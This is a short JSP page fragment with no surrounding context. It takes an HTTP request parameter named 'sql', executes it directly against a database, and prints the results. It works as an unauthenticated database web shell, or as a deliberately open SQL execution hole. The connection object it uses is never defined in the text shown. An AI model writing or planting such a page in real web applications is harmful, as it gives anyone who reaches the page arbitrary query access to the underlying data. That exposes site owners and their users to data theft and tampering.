<%@ page import="java.sql.*" %>
<%
String sql = request.getParameter("sql");
if (sql == null) sql = "";
Statement st = con.createStatement();
if (sql.length() > 0) { ResultSet rs = st.executeQuery(sql); while (rs.next()) out.println(rs.getString(1)); }
%>
